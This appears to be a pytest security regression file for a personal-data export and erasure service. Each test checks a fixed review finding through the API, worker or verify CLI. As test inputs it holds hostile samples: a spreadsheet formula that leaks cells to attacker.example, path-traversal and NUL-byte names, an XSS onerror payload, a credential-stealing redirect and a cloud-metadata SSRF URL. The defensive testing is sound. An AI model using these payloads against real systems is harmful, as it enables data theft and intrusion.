"""An attacker's checklist: every finding of the security reviews, each a test that
failed before its fix.

One test per finding, through the entry point an attacker or a careless integrator
would use (the API, the worker's start, ``handover verify``); the finding's number
in the review is in each test's name. Finer cases live beside the code they test.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from aiohttp import ClientTimeout

from connectors.errors import PermanentError, TransientError
from connectors.http import HttpConnector
from connectors.httpclient import MIB
from connectors.items import Subject
from connectors.s3files import S3FilesConnector
from connectors.testing import MemoryConnector
from jobs.archive.zipwriter import ZipWriter
from jobs.model import utcnow
from jobs.settings import Secret
from tests.conftest import REDIS_URL
from tests.connectors.processor_servers import (
    Bystander,
    FakeS3Listing,
    FakeTicketsApi,
    ListingPage,
    serve,
)
from tests.jobs.test_webhooks import SECRET as WEBHOOK_SECRET
from tests.jobs.test_webhooks import Receiver, receiver  # noqa: F401 (a fixture)
from tests.polling import eventually
from tests.service.conftest import Api, ApiFactory, api_factory  # noqa: F401 (a fixture)
from tests.service.test_api import crm, download_archive
from tests.service.test_cli import handover, members_of, write_key, write_members

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for your refund")'


async def test_r2_01_csv_cells_cannot_run_as_spreadsheet_formulas(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    hostile = MemoryConnector(
        "crm",
        records={"alice": {"contacts": [{"name": FORMULA, "@cmd": "+1", "balance": -3.5}]}},
    )
    api = await api_factory({"crm": hostile})
    job = await api.export(formats=["csv"])
    await api.wait(job["id"], "succeeded")
    archive = await api.archive(job["id"], api.auth())

    data = archive.read("crm/contacts.csv").decode()
    assert list(csv.reader(io.StringIO(data, newline=""))) == [
        ["name", "'@cmd", "balance"],
        ["'" + FORMULA, "'+1", "-3.5"],
    ]
    assert data.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert 'id="csv-formulas"' in archive.read("index.html").decode()


HOSTILE_HTTP_CONNECTOR = """
[connectors.tickets]
type = "http"
base_url = "https://api.example.com/v2"
auth = { type = "bearer", token = "tk_test" }
erase = { path = "/users/{id}" }

[[connectors.tickets.datasets]]
name = "../../../../x"
category = "contact"
path = "/users/{id}/tickets"
"""


def test_r2_02_a_configured_name_cannot_put_a_file_outside_the_archive(tmp_path: Path) -> None:
    config = tmp_path / "handover.toml"
    config.write_text(HOSTILE_HTTP_CONNECTOR)
    environ = {k: v for k, v in os.environ.items() if not k.startswith("HANDOVER_")}
    environ |= {
        "HANDOVER_CONFIG": str(config),
        "HANDOVER_REDIS_URL": REDIS_URL,
        "HANDOVER_DATA_DIR": str(tmp_path / "data"),
    }
    started = subprocess.run(
        [sys.executable, "-m", "service.cli", "worker", "--burst"],
        env=environ,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert started.returncode == 2, started.stderr
    assert started.stderr.count("\n") == 1
    assert "connector 'tickets'" in started.stderr
    assert "dataset name '../../../../x' must be" in started.stderr
    # And whatever the caller, the ZIP writer refuses such a name rather than write it.
    with pytest.raises(ValueError, match="it has a .. segment"):
        ZipWriter(utcnow()).member_header("tickets/../../../../x.json", 0, 0, 0)


@pytest.mark.parametrize(
    ("path", "problem"),
    [
        ("a\x00alice@example.com.png", "it holds a NUL"),
        ("../alice@example.com/x", "it leads out of the connector's files/ folder"),
    ],
)
async def test_r2_02_a_processors_unsafe_file_path_fails_its_export_naming_no_one(
    api_factory: ApiFactory,  # noqa: F811
    path: str,
    problem: str,
) -> None:
    """A file path the ZIP writer would refuse fails the connector at staging, so the job
    ends (never stuck running); the path, which may name the subject, reaches admins only."""
    uploads = MemoryConnector("crm", files={"alice": {path: b"\x89PNG"}})
    api = await api_factory({"crm": uploads})
    job = await api.export()
    await api.wait(job["id"], "failed")
    seen = await api.job(job["id"], sub="support-1", roles=("support",))
    assert (
        seen["connectors"]["crm"]["error"] == f"connector 'crm' gave an unsafe file path: {problem}"
    )
    assert "alice@example.com" not in json.dumps(seen)
    admin_seen = await api.job(job["id"], sub="admin-1", roles=("admin",))
    assert admin_seen["connectors"]["crm"]["error_detail"] == f"file path {path!r}"


@pytest.fixture
async def export_archive(api_factory: ApiFactory, tmp_path: Path) -> tuple[Path, Path]:  # noqa: F811
    """A real export's archive and the key that signed it."""
    api = await api_factory({"crm": crm()})
    job = await api.export(formats=["json"])
    await api.wait(job["id"], "succeeded")
    data, _ = await download_archive(api, job["id"])
    path = tmp_path / "export.zip"
    path.write_bytes(data)
    return path, write_key(tmp_path, api.resources.signer)


@pytest.fixture
async def dry_run_receipt(api_factory: ApiFactory, tmp_path: Path) -> tuple[Path, Path]:  # noqa: F811
    """A real dry-run erasure's receipt and the key that signed it."""
    api = await api_factory({"crm": crm()})
    status, _, job = await api.request("POST", "/v1/erasures", json={"dry_run": True})
    assert status == 202, job
    await api.wait(job["id"], "succeeded")
    headers = api.auth("alice")
    async with api.session.get(f"{api.base}/v1/jobs/{job['id']}/receipt", headers=headers) as got:
        assert got.status == 200
        path = tmp_path / "receipt.json"
        path.write_bytes(await got.read())
    return path, write_key(tmp_path, api.resources.signer)


def test_r2_06a_verify_refuses_an_archive_with_a_forged_copy_of_a_member(
    export_archive: tuple[Path, Path], tmp_path: Path
) -> None:
    path, key = export_archive
    forged = ("crm/contacts.json", b'[{"id": 1, "email": "mallory@example.com"}]\n')
    tampered = write_members(tmp_path / "tampered.zip", [forged, *members_of(path)])

    result = handover("verify", str(tampered), "--key", str(key))

    assert result.returncode == 1
    assert "crm/contacts.json: the archive holds 2 members of this name" in result.stderr


def test_r2_06b_verify_refuses_a_receipt_that_repeats_a_key(
    dry_run_receipt: tuple[Path, Path],
) -> None:
    path, key = dry_run_receipt
    # A first-wins reader would see a real erasure; the signature covers the dry run.
    forged = path.read_bytes().replace(b'"dry_run":true', b'"dry_run":false,"dry_run":true')
    path.write_bytes(forged)

    result = handover("verify", str(path), "--key", str(key))

    assert result.returncode == 1
    assert "repeats the key(s) 'dry_run'" in result.stderr


def test_r2_06c_verify_says_that_a_dry_run_erased_nothing(
    dry_run_receipt: tuple[Path, Path],
) -> None:
    path, key = dry_run_receipt

    result = handover("verify", str(path), "--key", str(key))

    assert result.returncode == 0, result.stderr
    assert f"OK: {path}: dry-run erasure receipt of job " in result.stdout
    assert result.stdout.endswith(": nothing was erased\n")


@pytest.mark.parametrize("url", ["http://keys.example.com/v1/keys", "file:///tmp/keys.json"])
def test_r2_07_verify_takes_keys_only_over_https_or_from_this_machine(
    tmp_path: Path, url: str
) -> None:
    receipt = tmp_path / "receipt.json"
    receipt.write_bytes(b"{}")

    result = handover("verify", str(receipt), "--keys-url", url)

    assert result.returncode == 2
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"handover: keys URL {url!r}: ")
    assert "use https" in result.stderr and "--key FILE" in result.stderr


# -- hostile processors (round two, "Also"; and finding 4, the connector's half) -------

PROCESSOR_TOKEN = "tk_live_5e4d3c2b1a09f8e7d6c5"


def helpdesk(url: str, **options: Any) -> HttpConnector:
    """An ``http`` connector on a helpdesk: the subject's tickets, paged by number."""
    return HttpConnector(
        "tickets",
        base_url=url,
        auth={"type": "header", "name": "X-Api-Key", "value": PROCESSOR_TOKEN},
        rate_limit=0,
        datasets=[
            {
                "name": "tickets",
                "category": "contact",
                "path": "/users/{id}/tickets",
                "records": "/data/items",
                "pagination": {"style": "page", "size_param": "per_page", "size": 2},
            }
        ],
        erase={"path": "/users/{id}"},
        **options,
    )


async def failed_export(
    api_factory: ApiFactory,  # noqa: F811
    fake: FakeTicketsApi,
    url: str,
    **overrides: Any,
) -> tuple[str, dict[str, Any], dict[str, Any]]:
    """An export of alice's data that fails at the helpdesk: its error, and the job as
    support staff and as an admin see it."""
    connector = helpdesk(url)
    await connector.open()
    try:
        api = await api_factory({"tickets": connector}, **overrides)
        job = await api.export()
        await api.wait(job["id"], "failed")
        seen = await api.job(job["id"], sub="support-1", roles=("support",))
        admin_seen = await api.job(job["id"], sub="admin-1", roles=("admin",))
    finally:
        await connector.close()
    error = seen["connectors"]["tickets"]["error"]
    assert isinstance(error, str)
    return error, seen, admin_seen


def hostile_helpdesk() -> FakeTicketsApi:
    fake = FakeTicketsApi(auth_header="X-Api-Key", auth_value=PROCESSOR_TOKEN)
    fake.add_user("alice", "alice@example.com", tickets=3)
    return fake


#: A processor's error answer quoting a subject's email, an IBAN and markup.
HOSTILE_ERROR = {
    "error": "no tickets for alice@example.com",
    "iban": "DE89370400440532013000",
    "note": "<img src=x onerror=alert(1)>",
}


async def test_processor_r2_04_an_error_answer_reaches_no_staff_member(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    fake = hostile_helpdesk()
    fake.fail_next(422, body=HOSTILE_ERROR)
    async with serve(fake) as url:
        error, seen, admin_seen = await failed_export(api_factory, fake, url)

    assert error == "tickets: export tickets page 1 (GET /users/{id}/tickets): HTTP 422"
    shown = json.dumps(seen)
    for personal in ("alice@example.com", "DE89370400440532013000", "onerror"):
        assert personal not in shown
    assert "error_detail" not in seen["connectors"]["tickets"]
    # An admin sees what the processor said, to find out what went wrong.
    assert "DE89370400440532013000" in admin_seen["connectors"]["tickets"]["error_detail"]


async def test_processor_r2_04_an_error_answer_reaches_no_webhook(
    api_factory: ApiFactory,  # noqa: F811
    receiver: tuple[Receiver, str],  # noqa: F811
) -> None:
    fake = hostile_helpdesk()
    fake.fail_next(422, body=HOSTILE_ERROR)
    platform, hook = receiver
    async with serve(fake) as url:
        _, seen, _ = await failed_export(
            api_factory, fake, url, webhook_urls=(hook,), webhook_secret=Secret(WEBHOOK_SECRET)
        )
        notices = await eventually(
            lambda: list(platform.received),
            until=lambda received: any(n["type"] == "job.failed" for n in received),
            timeout=30,
            what="the job.failed webhook",
        )

    assert seen["status"] == "failed" and platform.bad_signatures == 0
    [failed] = [n for n in notices if n["type"] == "job.failed"]
    assert failed["job"]["error"].endswith("(GET /users/{id}/tickets): HTTP 422")
    sent = json.dumps(notices)
    for personal in ("alice@example.com", "DE89370400440532013000", "onerror", "no tickets"):
        assert personal not in sent


async def test_processor_a_huge_answer_is_refused_unread(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    fake = hostile_helpdesk()
    fake.stream_next(200 * MIB)
    async with serve(fake) as url:
        error, _, _ = await failed_export(api_factory, fake, url)
        [sent] = await eventually(lambda: fake.streamed, until=bool, timeout=10, what="the end")

    assert error.endswith("HTTP 200: answer larger than 32 MiB, the rest left unread")
    assert sent < 64 * MIB


async def test_processor_paging_that_does_not_advance_is_stopped(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    fake = hostile_helpdesk()
    fake.fail_next(200, body={"data": {"items": [{"id": "t0"}, {"id": "t1"}]}}, times=3)
    async with serve(fake) as url:
        error, _, _ = await failed_export(api_factory, fake, url)

    assert error == (
        "tickets: export tickets: page 2 repeats page 1 word for word: the processor's "
        "paging does not advance"
    )
    assert len(fake.requests) == 2


async def test_processor_a_redirect_to_another_host_takes_no_credentials_there(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    fake, elsewhere = hostile_helpdesk(), Bystander()
    async with serve(elsewhere) as other:
        fake.redirect_next(f"{other}/steal?email=alice@example.com", 302)
        async with serve(fake) as url:
            error, _, _ = await failed_export(api_factory, fake, url)

    assert error == (
        "tickets: export tickets page 1 (GET /users/{id}/tickets): HTTP 302: a redirect to "
        "another origin, not followed (redirects never are)"
    )
    assert elsewhere.requests == []  # aiohttp alone would have sent the X-Api-Key along


async def test_processor_an_answer_trickling_forever_ends_at_the_timeout() -> None:
    fake = hostile_helpdesk()
    fake.trickle_next()
    async with serve(fake) as url:
        connector = helpdesk(url, timeout=0.3)
        await connector.open()
        try:
            with pytest.raises(TransientError, match="no complete answer within 0.3s"):
                [item async for item in connector.export(Subject("alice"))]
        finally:
            await connector.close()
    assert fake.trickled >= 3


async def test_processor_an_s3_listing_that_never_ends_is_stopped() -> None:
    def circle(token: str | None) -> ListingPage:
        return ListingPage([f"uploads/alice/{token}.bin"], "b" if token == "a" else "a")

    fake = FakeS3Listing(circle)
    async with serve(fake) as url, asyncio.timeout(30):
        files = S3FilesConnector(
            "uploads", bucket=FakeS3Listing.BUCKET, prefix="uploads/{subject}/", endpoint_url=url
        )
        try:
            with pytest.raises(PermanentError, match="listing goes round in a circle"):
                await files.erase(Subject("alice"), dry_run=False, retention={})
        finally:
            await files.close()


# -- the web edge: the dashboard and the API (findings 9, 11, 12, 14, 15 and 16) -------


async def web_sign_in(api: Api, headers: dict[str, str]) -> bool:
    """Sign in to the dashboard as a browser does; whether both its cookies were ``Secure``.
    ``api.session`` keeps no cookies from an IP address: they are sent back by hand."""
    async with api.session.get(f"{api.base}/dashboard/login", headers=headers) as form:
        found = re.search(r'name="csrf" value="([^"]+)"', await form.text())
        login = form.cookies["handover_login"]
    assert found
    async with api.session.post(
        f"{api.base}/dashboard/login",
        data={"csrf": found.group(1), "token": api.token("s1", "support")},
        headers={**headers, "Cookie": f"handover_login={login.value}"},
        allow_redirects=False,
    ) as response:
        assert response.status == 303
        session = response.cookies["handover_session"]
    return bool(login["secure"]) and bool(session["secure"])


async def test_web_r2_09_a_page_elsewhere_cannot_sign_a_browser_in(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False)
    async with api.session.get(f"{api.base}/dashboard/login") as form:
        # The attacker's own form: its token is bound to the attacker's cookie.
        attackers_csrf = [*re.findall(r'name="csrf" value="([^"]+)"', await form.text()), ""]
    token = api.token("mallory", "support")
    for headers, data in (
        ({"Origin": "null"}, {"token": token}),
        ({}, {"token": token}),
        ({}, {"token": token, "csrf": attackers_csrf[0]}),
        ({"Sec-Fetch-Site": "cross-site"}, {"token": token, "csrf": attackers_csrf[0]}),
    ):
        async with api.session.post(
            f"{api.base}/dashboard/login", data=data, headers=headers, allow_redirects=False
        ) as response:
            assert response.status == 403, (headers, data)
            assert "handover_session" not in response.cookies


async def test_web_r2_11_a_bad_last_event_id_is_a_400_before_the_stream(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False)
    job = await api.export()
    headers = {"Accept": "text/event-stream", "Last-Event-ID": "99999999999999999999-0"}
    # Before the fix the stream answered 200, then hung on the error written into it.
    status, answer, problem = await api.request(
        "GET", f"/v1/jobs/{job['id']}/events", headers=headers, timeout=ClientTimeout(10)
    )
    assert status == 400 and answer["Content-Type"].startswith("application/problem+json")
    assert "is not an event id" in problem["detail"]


async def test_web_r2_12_a_dashboard_job_route_with_no_job_id_is_a_404(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False)
    job = await api.export()
    session = api.token("s1", "support")  # the session cookie holds the staff token itself
    for path in (
        f"/dashboard/jobs/{job['id']}:events",
        f"/dashboard/jobs/{job['id']}:events/fragment",
    ):
        status, _, page = await api.request(
            "GET", path, sub=None, headers={"Cookie": f"handover_session={session}"}
        )
        assert status == 404, path
        assert b"Internal error" not in page


async def test_web_r2_14_a_token_spelled_otherwise_gets_no_fresh_rate_limit(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False, rate_limit=2)
    token = api.token("s1", "support")
    answers = [
        (await api.request("GET", "/v1/connectors", sub=None, headers={"Authorization": a}))[0]
        for a in (f"Bearer {token}", f"Bearer {token}", f"Bearer {token}=", "Bearer made-up")
    ]
    assert answers == [200, 200, 429, 401]


@pytest.mark.parametrize(("trusted_proxies", "secure"), [(("127.0.0.1",), True), ((), False)])
async def test_web_r2_15_behind_a_trusted_tls_proxy_the_dashboard_cookie_is_secure(
    api_factory: ApiFactory,  # noqa: F811
    trusted_proxies: tuple[str, ...],
    secure: bool,
) -> None:
    api = await api_factory({"crm": crm()}, worker=False, trusted_proxies=trusted_proxies)
    assert await web_sign_in(api, {"X-Forwarded-Proto": "https"}) is secure


async def test_web_r2_16_problems_and_every_answer_forbid_content_sniffing(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False)
    for path, status in (("/v1/jobs/01ARYZ6S41TSV4RRFFQ69G5FAV", 404), ("/v1/connectors", 200)):
        got, headers, _ = await api.request("GET", path)
        assert got == status
        assert headers.get("X-Content-Type-Options") == "nosniff", path


class BuggyConnector(MemoryConnector):
    """A connector with a bug whose message quotes the subject's email."""

    def export(self, subject: Subject) -> Any:
        raise KeyError(f"no profile for {subject.email or 'alice@example.com'}")


async def test_r2_04_a_connector_bug_quoting_data_reaches_no_staff_member(
    api_factory: ApiFactory,  # noqa: F811
    caplog: pytest.LogCaptureFixture,
) -> None:
    api = await api_factory({"crm": BuggyConnector("crm", records={})})
    job = await api.export()
    await api.wait(job["id"], "failed")
    # Nor the log: it names the bug's class and where it was raised.
    assert "KeyError, raised at" in caplog.text and "alice@example.com" not in caplog.text
    seen = await api.job(job["id"], sub="support-1", roles=("support",))
    assert seen["connectors"]["crm"]["error"] == "internal error (KeyError), a bug"
    assert "alice@example.com" not in json.dumps(seen)
    admin_seen = await api.job(job["id"], sub="admin-1", roles=("admin",))
    assert "alice@example.com" in admin_seen["connectors"]["crm"]["error_detail"]


# -- findings 3, 5, 8, 10, 13 and 17 ------------------------------------------------------


async def test_r2_03_a_dot_segment_subject_is_refused_at_intake(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False)
    for subject in ("..", "."):
        status, headers, problem = await api.request(
            "POST", "/v1/exports", sub="support-1", roles=("support",), json={"subject": subject}
        )
        assert status == 422, problem
        assert headers["Content-Type"].startswith("application/problem+json")


async def test_r2_05_a_canceled_export_keeps_no_archive_password(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, worker=False)
    job = await api.export(password="correct horse battery staple")
    assert (await api.resources.store.get(job["id"])).archive_password is not None
    status, _, canceled = await api.request("POST", f"/v1/jobs/{job['id']}/cancel")
    assert status == 200 and canceled["status"] == "canceled"
    assert (await api.resources.store.get(job["id"])).archive_password is None


async def test_r2_05_a_failed_export_keeps_no_archive_password(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": MemoryConnector("crm", fail="the CRM is gone")})
    job = await api.export(password="correct horse battery staple")
    await api.wait(job["id"], "failed")
    assert (await api.resources.store.get(job["id"])).archive_password is None


async def test_r2_08_a_download_link_cannot_be_fetched_twice(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    api = await api_factory({"crm": crm()}, s3_bucket=None)
    job = await api.export()
    await api.wait(job["id"], "succeeded")
    status, headers, _ = await api.request("GET", f"/v1/jobs/{job['id']}/download")
    assert status == 303
    parts = urlsplit(headers["Location"])
    link = f"{api.base}{parts.path}?{parts.query}"
    async with api.session.get(link) as first, api.session.get(link) as second:
        assert (first.status, second.status) == (200, 410)


async def test_r2_10_a_token_in_a_webhook_url_never_reaches_the_queue(
    api_factory: ApiFactory,  # noqa: F811
) -> None:
    hook = "https://platform.example/hooks?token=hook-secret-0123456789"
    api = await api_factory(
        {"crm": crm()}, worker=False, webhook_urls=(hook,), webhook_secret=Secret("w" * 40)
    )
    await api.export()
    queued = [
        await api.resources.redis.get(key) for key in await api.resources.redis.keys("arq:job:*")
    ]
    assert queued and not any(b"hook-secret" in (task or b"") for task in queued)


def test_r2_13_what_handover_keeps_is_readable_by_its_own_user_only(tmp_path: Path) -> None:
    data = tmp_path / "data"
    minted = handover("token", "--sub", "alice", env={"HANDOVER_DATA_DIR": str(data)})
    assert minted.returncode == 0, minted.stderr
    kept = [data, *data.rglob("*")]
    assert len(kept) > 1
    assert [p for p in kept if p.stat().st_mode & 0o077] == []


def test_r2_17_a_webhook_to_the_cloud_metadata_address_stops_start_up(tmp_path: Path) -> None:
    started = handover(
        "worker",
        env={
            "HANDOVER_REDIS_URL": REDIS_URL,
            "HANDOVER_DATA_DIR": str(tmp_path / "data"),
            "HANDOVER_WEBHOOK_URLS": "http://169.254.169.254/latest/meta-data/",
            "HANDOVER_WEBHOOK_SECRET": "w" * 40,
        },
    )
    assert started.returncode == 2
    assert started.stderr.startswith("handover: HANDOVER_WEBHOOK_URLS: ")
    assert "link-local or cloud metadata" in started.stderr and started.stderr.count("\n") == 1
